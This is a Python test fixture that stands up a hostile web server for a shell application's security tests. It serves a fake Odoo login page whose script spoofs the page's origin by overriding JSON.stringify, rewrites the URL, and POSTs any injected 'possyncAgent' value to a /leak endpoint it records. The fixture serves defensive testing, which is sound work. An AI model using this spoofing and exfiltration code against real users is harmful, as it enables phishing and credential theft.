"""A hostile web site for the shell's attack tests: another origin that serves a page
dressed as the Odoo server's login page, and writes down every request it receives.

The page fakes what a page can fake about itself: ``JSON.stringify`` answers with the
real server's origin and login path (what an app reading ``{...location}`` would have
trusted), ``history.replaceState`` puts ``/web/login`` in its path, and it reports back
any possync value it is handed (``window.possyncAgent``) to the site.
"""

from __future__ import annotations

import json

from aiohttp import web

from devkit.background import BackgroundServer

REQUESTS = web.AppKey("requests", list)

FAKE_LOGIN = """<!doctype html><html><head><title>Login | Odoo</title></head>
<body style="font-family:sans-serif;background:#f0eeee">
<main style="max-width:360px;margin:80px auto;background:#fff;padding:24px;border-radius:8px">
<h2>Odoo</h2><form method="post"><p><input name="login" placeholder="Email"></p>
<p><input name="password" type="password" placeholder="Password"></p><button>Log in</button>
</form></main>
<script>
(function (claimed) {
  var real = JSON.stringify;
  JSON.stringify = function (value) {
    if (value && typeof value === "object" && "origin" in value) {
      return real({href: claimed + "/web/login", origin: claimed, path: "/web/login"});
    }
    return real.apply(JSON, arguments);
  };
  history.replaceState(null, "", "/web/login");
  window.__hostile = true;
  // Whatever possync hands this page goes straight back to the site.
  setInterval(function () {
    if (window.possyncAgent || window.__possyncInjected) {
      fetch("/leak", {method: "POST", body: real({agent: window.possyncAgent || null})});
    }
  }, 200);
})(%(claimed)s);
</script></body></html>"""


def make_app(claimed_origin: str) -> web.Application:
    @web.middleware
    async def record(request: web.Request, handler):  # type: ignore[no-untyped-def]
        body = await request.text() if request.can_read_body else ""
        request.app[REQUESTS].append(
            {"method": request.method, "path": request.path_qs, "body": body}
        )
        return await handler(request)

    async def login(_request: web.Request) -> web.Response:
        page = FAKE_LOGIN % {"claimed": json.dumps(claimed_origin)}
        return web.Response(text=page, content_type="text/html")

    async def anything(_request: web.Request) -> web.Response:
        return web.json_response({"jsonrpc": "2.0", "id": 1, "result": {"uid": 2}})

    app = web.Application(middlewares=[record])
    app[REQUESTS] = []
    app.router.add_get("/web/login", login)
    app.router.add_route("*", "/{tail:.*}", anything)
    return app


class HostileSite(BackgroundServer):
    def __init__(self, claimed_origin: str) -> None:
        super().__init__(make_app(claimed_origin))

    @property
    def requests(self) -> list[dict]:
        return self.app[REQUESTS]

    def received(self, secret: str) -> list[dict]:
        """The requests that carried ``secret`` anywhere (path, query or body)."""
        return [r for r in self.requests if secret in r["path"] or secret in r["body"]]
